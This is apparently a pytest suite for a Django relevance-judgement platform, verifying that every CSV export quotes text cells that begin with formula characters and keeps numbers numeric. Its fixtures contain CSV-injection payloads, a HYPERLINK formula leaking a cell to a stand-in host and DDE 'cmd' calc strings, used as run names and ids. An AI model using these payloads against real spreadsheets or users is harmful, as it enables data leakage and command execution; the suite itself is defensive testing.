"""Every CSV export shows what users named as text a spreadsheet does not evaluate, and its
numbers as numbers: through the pages, the API and `evaluate`."""

from __future__ import annotations

import csv
import io
import math
import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from django.contrib.auth import get_user_model
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.test import Client
from hypothesis import given, settings
from hypothesis import strategies as st
from rest_framework.test import APIClient

from annotations.formats.reports import ReportRow, leaderboard_csv
from annotations.formats.spreadsheet_cells import (
    FORMULA_STARTS,
    SpreadsheetWriter,
    spreadsheet_cell,
    spreadsheet_text,
)
from annotations.models import Collection, GradeLevel, Membership
from annotations.selectors import evaluation
from tests.factories import UserFactory

# The audit's payloads (each taken as a run name with a 201), then one for each other
# printable formula start.
PAYLOADS = [
    '=HYPERLINK("http://x.example/?"&A1,"click")',
    "@SUM(1+1)*cmd|'/c,calc'!A0",
    "=1+1",
    "-2+3+cmd|'/C,calc'!A0",
    "+1+1",
]
# OWASP's list, written out here rather than imported: the test states the rule itself.
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
# A username Django's validator accepts that a spreadsheet would compute (-2+3 = 1).
HOSTILE_USER = "-2+3"
NOTE = "=HYPERLINK(A1)"

SCORES_TEXT = {"run", "qid", "answered", "machine_grades"}
REPORT_TEXT = {"run", "group", "machine_grades"}
HISTORY_TEXT = {"qid", "docno", "assessor", "source", "changed_by", "changed_at", "note"}


@pytest.fixture(autouse=True)
def _fast_passwords(settings: Any) -> None:
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]


def _api(username: str) -> APIClient:
    client = APIClient()
    client.force_authenticate(get_user_model().objects.get(username=username))
    return client


@pytest.fixture
def hostile(worked_example: Collection) -> Collection:
    """The worked example, with judgements of qids and docnos named by the payloads (by the
    organiser), a grade of -1 with a formula for a note (by an assessor named like a
    formula) and one run per payload, named by it (by a system owner); all through the API."""
    collection = worked_example
    for username, role in (("olga", "organiser"), ("sys", "owner"), (HOSTILE_USER, "assessor")):
        Membership.objects.create(
            collection=collection, user=UserFactory(username=username), role=role
        )
    GradeLevel.objects.create(collection=collection, value=-1, label="Spam")
    judgements = f"/api/v1/collections/{collection.slug}/judgements/"
    for payload in PAYLOADS:
        body = {"qid": payload, "docno": payload, "grade": 2}
        assert _api("olga").post(judgements, body, format="json").status_code == 201
    body = {"qid": "q1", "docno": "d8", "grade": -1, "note": NOTE}
    response = _api(HOSTILE_USER).post(judgements, body, format="json")
    assert response.status_code == 201, response.content
    for payload in PAYLOADS:
        lines = f"q1 Q0 d1 1 2.0 t\n{payload} Q0 {payload} 1 1.0 t\n".encode()
        upload = SimpleUploadedFile("sys.run", lines, content_type="text/plain")
        response = _api("sys").post(
            f"/api/v1/collections/{collection.slug}/runs/",
            {"file": upload, "name": payload},
            format="multipart",
        )
        assert response.status_code == 201, response.content
    return collection


def _page(path: str) -> str:
    client = Client()
    client.force_login(get_user_model().objects.get(username="olga"))
    response = client.get(path)
    return _body(response)


def _body(response: Any) -> str:
    assert response.status_code == 200, response.content[:500]
    assert response["Content-Type"].startswith("text/csv")
    if response.streaming:
        return b"".join(response.streaming_content).decode()
    return response.content.decode()


def _command(*args: str) -> str:
    out = io.StringIO()
    call_command(*args, stdout=out, stderr=io.StringIO())
    return out.getvalue()


# Every CSV the platform writes, by every way out, with the columns that hold text.
EXPORTS: dict[str, tuple[Callable[[], str], set[str]]] = {
    "scores page": (
        lambda: _page("/collections/demo/exports/scores/?scores-format=csv"),
        SCORES_TEXT,
    ),
    "scores api": (
        lambda: _body(_api("olga").get("/api/v1/collections/demo/scores/export/csv/")),
        SCORES_TEXT,
    ),
    "scores command": (lambda: _command("evaluate", "demo", "--format", "csv"), SCORES_TEXT),
    "report page": (
        lambda: _page("/collections/demo/leaderboard/report/?k=10&as=csv"),
        REPORT_TEXT,
    ),
    "report api": (
        lambda: _body(_api("olga").get("/api/v1/collections/demo/leaderboard/report/?k=10&as=csv")),
        REPORT_TEXT,
    ),
    "report command": (
        lambda: _command("evaluate", "demo", "--format", "leaderboard-csv", "--k", "10"),
        REPORT_TEXT,
    ),
    "history page": (lambda: _page("/collections/demo/exports/history/"), HISTORY_TEXT),
}
RUN_EXPORTS = [name for name in EXPORTS if not name.startswith("history")]


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("export", RUN_EXPORTS)
def test_runs_named_like_formulas_come_out_as_text(hostile: Collection, export: str) -> None:
    rows = _rows(EXPORTS[export][0]())
    runs = {row["run"] for row in rows}
    assert runs == {"example", *("'" + payload for payload in PAYLOADS)}
    if "qid" in rows[0]:
        assert {row["qid"] for row in rows} == {"q1", "all", *("'" + p for p in PAYLOADS)}


@pytest.mark.parametrize("export", list(EXPORTS))
def test_no_text_cell_starts_a_formula_and_every_number_reads_back(
    hostile: Collection, export: str
) -> None:
    produce, text_columns = EXPORTS[export]
    rows = _rows(produce())
    assert rows
    for row in rows:
        for column, cell in row.items():
            if column in text_columns:
                assert not cell.startswith(DANGEROUS), (column, cell)
            elif cell:
                assert math.isfinite(float(cell)), (column, cell)


def test_the_history_neutralises_ids_usernames_and_notes_and_keeps_negative_grades(
    hostile: Collection,
) -> None:
    rows = _rows(_page("/collections/demo/exports/history/"))
    by_qid = {row["qid"]: row for row in rows}
    for payload in PAYLOADS:
        row = by_qid["'" + payload]
        assert row["docno"] == "'" + payload and row["assessor"] == "olga"
        assert row["new_grade"] == "2" and row["old_grade"] == ""
    (negative,) = [row for row in rows if row["assessor"] == "'" + HOSTILE_USER]
    assert negative["qid"] == "q1" and negative["docno"] == "d8"
    assert negative["new_grade"] == "-1" and int(negative["new_grade"]) == -1
    assert negative["note"] == "'" + NOTE and negative["changed_by"] == "'" + HOSTILE_USER


def test_negative_scores_stay_numbers_and_a_numeric_qid_is_text(
    hostile: Collection, monkeypatch: pytest.MonkeyPatch
) -> None:
    # nDCG is never negative here; a DCG of negative gains would be, and must print as one.
    def per_query(**_: Any) -> list[evaluation.StoredQueryScore]:
        return [evaluation.StoredQueryScore("=1+1", "-1", 10, -0.5, -1.25, 1.0, -0.0, True)]

    def means(**_: Any) -> list[evaluation.StoredRunScore]:
        return [evaluation.StoredRunScore("=1+1", 10, 1, -0.5, -0.0, 1.0)]

    monkeypatch.setattr(evaluation, "stored_query_scores", per_query)
    monkeypatch.setattr(evaluation, "stored_run_scores", means)
    text = _page("/collections/demo/exports/scores/?scores-format=csv")
    assert text.splitlines()[1:] == [
        f"'=1+1,'-1,10,-0.5,-1.25,1.0,-0.0,,true,{hostile.machine_grades}",
        f"'=1+1,all,10,-0.5,,1.0,-0.0,1,,{hostile.machine_grades}",
    ]


# --- The rule ---------------------------------------------------------------------------


@pytest.mark.parametrize("start", DANGEROUS)
def test_text_starting_a_formula_gets_one_leading_quote(start: str) -> None:
    assert spreadsheet_text(start + "SUM(A1)") == "'" + start + "SUM(A1)"
    assert FORMULA_STARTS == DANGEROUS


@pytest.mark.parametrize("text", ["", "q1", "a=b", " =1", "'=1", "0.5", "1e-3", "Zürich"])
def test_other_text_is_left_alone(text: str) -> None:
    assert spreadsheet_text(text) == text


def test_numbers_are_told_from_text_by_type() -> None:
    import numpy as np

    assert [spreadsheet_cell(v) for v in (-1, -0.5, -0.0, np.float64(-0.25), np.int64(-3))] == [
        "-1",
        "-0.5",
        "-0.0",
        "-0.25",
        "-3",
    ]
    assert spreadsheet_cell(0.1 + 0.2) == "0.30000000000000004"
    assert spreadsheet_cell(None) == ""
    assert [spreadsheet_cell(v) for v in ("-1", "-0.5", True)] == ["'-1", "'-0.5", "True"]


def test_the_quoting_of_rfc_4180_still_applies() -> None:
    sink = io.StringIO(newline="")
    SpreadsheetWriter(sink).writerow(['=A1,"x"', "\r@y", "\t@z", -2])
    assert sink.getvalue() == '"\'=A1,""x""","\'\r@y",\'\t@z,-2\r\n'


_CELLS = st.one_of(
    st.text(),
    st.text().map(lambda text: "=+-@\t\r"[len(text) % 6] + text),
    st.integers(),
    st.floats(),
    st.none(),
)


@settings(deadline=None)  # a loaded machine is not a failure
@given(st.lists(st.lists(_CELLS, max_size=6), max_size=6))
def test_no_written_cell_starts_a_formula_unless_it_is_a_number(rows: list[list[Any]]) -> None:
    sink = io.StringIO(newline="")
    SpreadsheetWriter(sink).writerows(rows)
    parsed = list(csv.reader(io.StringIO(sink.getvalue(), newline="")))
    assert len(parsed) == len(rows)
    for row, cells in zip(rows, parsed, strict=True):
        assert len(cells) == len(row)
        for value, cell in zip(row, cells, strict=True):
            if value is None:
                assert cell == ""
            elif isinstance(value, int):
                assert cell == str(value)
            elif isinstance(value, float):
                assert cell == repr(value) and (math.isnan(value) or float(cell) == value)
            else:
                assert cell == ("'" + value if value.startswith(DANGEROUS) else value)
                assert not cell.startswith(DANGEROUS)


_NAMES = st.text().map(lambda text: "=+-@\t\r"[len(text) % 6] + text) | st.text()
_FINITE = st.floats(allow_nan=False, allow_infinity=False)


@settings(deadline=None)
@given(st.lists(st.tuples(_NAMES, _FINITE, _FINITE), max_size=5))
def test_leaderboard_names_never_start_a_formula_and_numbers_stay_exact(
    lines: list[tuple[str, float, float]],
) -> None:
    rows = [
        ReportRow(rank, name, mean, low, abs(mean), 0.5, 3, "a")
        for rank, (name, mean, low) in enumerate(lines, start=1)
    ]
    parsed = list(csv.reader(io.StringIO(leaderboard_csv(rows), newline="")))[1:]
    for row, cells in zip(rows, parsed, strict=True):
        assert cells[1] == ("'" + row.run if row.run.startswith(DANGEROUS) else row.run)
        assert not cells[1].startswith(DANGEROUS)
        assert float(cells[2]) == row.mean and float(cells[3]) == row.ci_low
        assert cells[2] == repr(row.mean) and cells[3] == repr(row.ci_low)


# --- One rule for every CSV ---------------------------------------------------------------

# CSV text the platform writes for a machine, not for people: the ids ids.py sends to
# PostgreSQL's COPY must arrive exact.
_EXACT_CSV = {Path("annotations/ids.py")}
_CSV_WRITERS = re.compile(r"csv\.(writer|DictWriter)\(|write_csv\(")


def test_every_csv_the_platform_writes_goes_through_the_spreadsheet_writer() -> None:
    root = Path(__file__).resolve().parents[1]
    writers = {
        path.relative_to(root)
        for path in (root / "annotations").rglob("*.py")
        if _CSV_WRITERS.search(path.read_text(encoding="utf-8"))
    }
    assert writers == {Path("annotations/formats/spreadsheet_cells.py"), *_EXACT_CSV}
